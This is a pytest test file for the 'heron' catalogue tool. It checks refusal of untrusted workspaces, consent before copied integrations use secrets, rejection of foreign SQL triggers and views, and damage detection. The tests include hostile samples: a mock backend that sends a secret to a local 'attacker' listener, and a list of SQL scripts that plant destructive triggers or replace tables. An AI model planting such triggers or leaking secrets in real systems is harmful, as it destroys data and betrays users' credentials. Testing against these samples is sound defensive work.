"""A workspace of somebody else is refused until it is trusted, and a copied one uses no secret without permission."""

import os
import socket
import sqlite3
import subprocess
import sys
import threading

import pytest

import heron
from heron.catalog.damage import damage_of
from heron.cli.main import status
from heron.consent import config_folder, distrust, trusted
from heron.errors import BadCredentials, CatalogueError, InvalidInput, PermissionDenied
from heron.hooks import Option, StorageBackend, hookimpl

needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to another user")


@pytest.fixture(autouse=True)
def config(tmp_path, monkeypatch):
    monkeypatch.setenv("HERON_CONFIG_DIR", str(tmp_path / "config"))
    monkeypatch.delenv("HERON_TRUST", raising=False)
    monkeypatch.delenv("SUDO_UID", raising=False)


@pytest.fixture
def lake(tmp_path, pictures):
    with heron.open(tmp_path / "lake", discover=False) as opened:
        opened.ingest.files([pictures], folder="P")
        return opened


def give_away(root, user=54321):
    for path in (root, root / ".heron", *(root / ".heron").iterdir()):
        os.chown(path, user, user)


@needs_root
@pytest.mark.parametrize("what", [".heron", ".heron/catalog.db"])
def test_a_workspace_of_another_user_is_refused_until_it_is_trusted(lake, what, capsys):
    os.chown(lake.root / what, 54321, 54321)
    with pytest.raises(PermissionDenied, match="another user"):
        heron.open(lake.root)
    assert status(["--no-plugins", "-w", str(lake.root), "items"]) == 1
    assert "heron trust" in capsys.readouterr().err
    heron.trust(lake.root)
    heron.open(lake.root).close()
    assert distrust(lake.root)
    with pytest.raises(PermissionDenied):
        heron.open(lake.root)


@needs_root
def test_a_workspace_found_on_the_way_up_is_refused_too(lake, monkeypatch, capsys):
    give_away(lake.root)
    (lake.root / "a" / "b").mkdir(parents=True)
    monkeypatch.chdir(lake.root / "a" / "b")
    assert status(["--no-plugins", "items"]) == 1
    assert "another user" in capsys.readouterr().err


@needs_root
def test_a_heron_folder_on_the_way_up_that_may_not_be_read_is_said_in_a_sentence(tmp_path):
    (tmp_path / ".heron").mkdir(mode=0o700)
    for folder in (tmp_path, *list(tmp_path.parents)[:2]):
        folder.chmod(folder.stat().st_mode | 0o055)
    code = (
        "import os, heron; from heron.inside import find; os.setegid(54321); os.seteuid(54321)\n"
        f"try: find({str(tmp_path)!r})\nexcept heron.CatalogueError as error: print(error)"
    )
    said = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert "cannot be read" in said.stdout, said


@needs_root
def test_under_sudo_the_files_of_the_caller_are_ones_own(lake, monkeypatch):
    give_away(lake.root)
    monkeypatch.setenv("SUDO_UID", "54321")
    heron.open(lake.root).close()


@needs_root
def test_everything_is_trusted_where_that_is_said(lake, monkeypatch):
    give_away(lake.root)
    monkeypatch.setenv("HERON_TRUST", "all")
    heron.open(lake.root).close()
    monkeypatch.setenv("HERON_TRUST", "yes")
    with pytest.raises(InvalidInput, match="HERON_TRUST"):
        heron.open(lake.root)


def test_the_command_lists_and_removes(lake, capsys):
    assert status(["trust", str(lake.root)]) == 0
    assert status(["trust", "--list"]) == 0
    assert str(lake.root) in capsys.readouterr().out
    assert status(["trust", str(lake.root), "--remove"]) == 0
    assert not trusted()
    assert status(["trust"]) == 2


def test_what_is_trusted_does_not_count_where_others_may_write_it(lake):
    heron.trust(lake.root)
    (config_folder() / "trusted.json").chmod(0o666)
    with pytest.raises(CatalogueError, match="other users can write"):
        trusted()


# Integrations


class Endpoint:
    """A storage that would send its secret to an endpoint."""

    def __init__(self, options):
        with socket.create_connection(options["endpoint"].split(":")) as connection:
            connection.sendall(options.get("secret", "login").encode())

    def normalise(self, url):
        return url

    def peek(self, url, count):
        raise heron.NotFound("nothing")


class Plugin:
    @hookimpl
    def register_storage(self):
        options = [
            Option("endpoint", "where"),
            Option("secret", "what", secret=True),
            Option("anonymous", "none", type="boolean"),
        ]
        yield StorageBackend(name="leak", summary="sends", schemes=["leak"], options=options, load=Endpoint)


@pytest.fixture
def attacker():
    """What somebody hears at an endpoint."""
    heard = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def listen():
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                heard.append(connection.recv(1000))
                connection.close()

        threading.Thread(target=listen, daemon=True).start()
        yield f"127.0.0.1:{server.getsockname()[1]}", heard


def copied(lake, config, options, monkeypatch, tmp_path):
    """The workspace as another machine sees it: the config folder is another one."""
    with heron.open(lake.root, plugins=[Plugin()], discover=False) as opened:
        made = opened.integrations.create("x", "leak", options)
    monkeypatch.setenv("HERON_CONFIG_DIR", str(tmp_path / "elsewhere"))
    return made


@pytest.mark.parametrize("reference", ["env:MY_SECRET", "file:{}", None])
def test_an_integration_made_elsewhere_sends_nothing_before_consent(
    lake, config, attacker, monkeypatch, tmp_path, reference
):
    endpoint, heard = attacker
    monkeypatch.setenv("MY_SECRET", "geheim")
    (tmp_path / "secret").write_text("geheim")
    options = {"endpoint": endpoint}
    if reference:
        options["secret"] = reference.format(tmp_path / "secret")
    copied(lake, config, options, monkeypatch, tmp_path)
    with heron.open(lake.root, plugins=[Plugin()], discover=False) as opened:
        found = opened.integrations.get("x")
        with pytest.raises(BadCredentials, match="came with this workspace"):
            opened.storage.open("leak://a/b", found)
        (failed,) = opened.storage.check("x", "leak://a/b")
        assert not failed.ok
        assert heard == []
        opened.integrations.trust("x")
        opened.storage.open("leak://a/b", found)
    with sqlite3.connect(lake.root / ".heron" / "catalog.db") as raw:
        raw.execute("UPDATE integrations SET options = replace(options, '127.0.0.1', 'localhost')")
    with heron.open(lake.root, plugins=[Plugin()], discover=False) as opened, pytest.raises(BadCredentials):
        opened.storage.open("leak://a/b", opened.integrations.get("x"))


def test_ones_own_integration_and_an_anonymous_one_need_no_consent(
    lake, config, attacker, monkeypatch, tmp_path
):
    endpoint, _ = attacker
    with heron.open(lake.root, plugins=[Plugin()], discover=False) as opened:
        monkeypatch.setenv("MY_SECRET", "geheim")
        own = opened.integrations.create("own", "leak", {"endpoint": endpoint, "secret": "env:MY_SECRET"})
        opened.storage.open("leak://a/b", own)
    copied(lake, config, {"endpoint": endpoint, "anonymous": True}, monkeypatch, tmp_path)
    with heron.open(lake.root, plugins=[Plugin()], discover=False) as opened:
        opened.storage.open("leak://a/b", opened.integrations.get("x"))


# Triggers and views

HOSTILE = [
    "CREATE TRIGGER t AFTER INSERT ON folders BEGIN DELETE FROM items; END",
    "CREATE TRIGGER text_1_insert AFTER INSERT ON items BEGIN DELETE FROM folders; END",
    "DROP TABLE presets; CREATE VIEW presets AS SELECT name AS name FROM items",
    "DROP TRIGGER vectors_of_frame; CREATE TRIGGER vectors_of_frame AFTER DELETE ON frames BEGIN DELETE FROM items; END",
    "DROP TABLE presets; CREATE VIRTUAL TABLE presets USING fts5(name)",
    "DROP TABLE derived_frames; CREATE VIEW derived_frames AS SELECT id AS frame_id FROM frames",
    "DROP TABLE vector_sums; CREATE VIEW vector_sums AS SELECT id AS set_id, 0 AS block, 0 AS crc FROM vector_sets",
]


@pytest.mark.parametrize("script", HOSTILE)
def test_a_trigger_or_view_of_a_stranger_is_refused(lake, script):
    with sqlite3.connect(lake.root / ".heron" / "catalog.db") as raw:
        raw.executescript(script)
    with pytest.raises(CatalogueError, match="Heron did not make"):
        heron.open(lake.root)


def test_ones_own_views_and_full_text_keys_are_welcome(lake):
    with heron.open(lake.root, discover=False) as opened:
        opened.schema.add("note", "text")
    with sqlite3.connect(lake.root / ".heron" / "catalog.db") as raw:
        raw.execute("CREATE VIEW mine AS SELECT name FROM items")
    with heron.open(lake.root, discover=False) as opened:
        opened.metadata.merge({opened.items.list(folder="P")[0].uuid: {"note": "a red boat"}})
        assert opened._database.value("SELECT count(*) FROM text_1 WHERE text_1 MATCH 'boat'") == 1


# Damage


@pytest.mark.parametrize(
    "script,said",
    [
        ("UPDATE items SET width = 'wide' WHERE name = 'p0.jpg'", "the value of width is not a whole number"),
        ("UPDATE items SET metadata = '[1]'", "the value of metadata is not a JSON object"),
        ("UPDATE items SET created_at = 'now'", "the value of created_at is not a time"),
        ("UPDATE folders SET uuid = 'x'", "the value of uuid is not a UUID"),
        ("UPDATE folders SET name = x'00'", "the value of name is not text"),
        ("UPDATE items SET name = 'a' || char(0)", "the value of name is not text"),
        ("ALTER TABLE folders DROP COLUMN description", "its table folders has no column description"),
        ("DROP TABLE presets", "it has no table presets"),
    ],
)
def test_damage_is_found_and_named_without_the_value(lake, script, said):
    file = lake.root / ".heron" / "catalog.db"
    assert damage_of(file) is None
    with sqlite3.connect(file) as raw:
        raw.executescript(script)
    assert said in damage_of(file)


def test_a_command_that_fails_over_damage_names_the_row_only_to_the_owner(lake, capsys):
    with heron.open(lake.root, discover=False) as opened:
        opened.users.add("ada@example.org", role="admin")
        uuid = opened.items.list(folder="P")[0].uuid
    with sqlite3.connect(lake.root / ".heron" / "catalog.db") as raw:
        raw.execute("UPDATE items SET size = x'00', metadata = '[]' WHERE uuid = ?", [uuid])
    line = ["--no-plugins", "-w", str(lake.root)]
    assert status([*line, "items", "show", uuid]) == 1
    said = capsys.readouterr().err
    assert f"in the row of items with the uuid {uuid!r}, the value of" in said and "restore a backup" in said
    assert status([*line[:1], *line[1:], "--as", "ada@example.org", "items", "show", uuid]) == 1
    assert "row of items" not in capsys.readouterr().err


@pytest.mark.parametrize("name", ["catalog.db", "catalog.db-wal", "catalog.db-shm"])
def test_a_catalogue_with_a_second_name_is_not_written(lake, tmp_path, name):
    lake.close()
    (tmp_path / "mine").write_bytes(
        (lake.root / ".heron" / "catalog.db").read_bytes() if name == "catalog.db" else b"mine"
    )
    before = (tmp_path / "mine").read_bytes()
    (lake.root / ".heron" / name).unlink(missing_ok=True)
    os.link(tmp_path / "mine", lake.root / ".heron" / name)
    with pytest.raises(CatalogueError, match="second name"):
        heron.open(lake.root)
    assert (tmp_path / "mine").read_bytes() == before
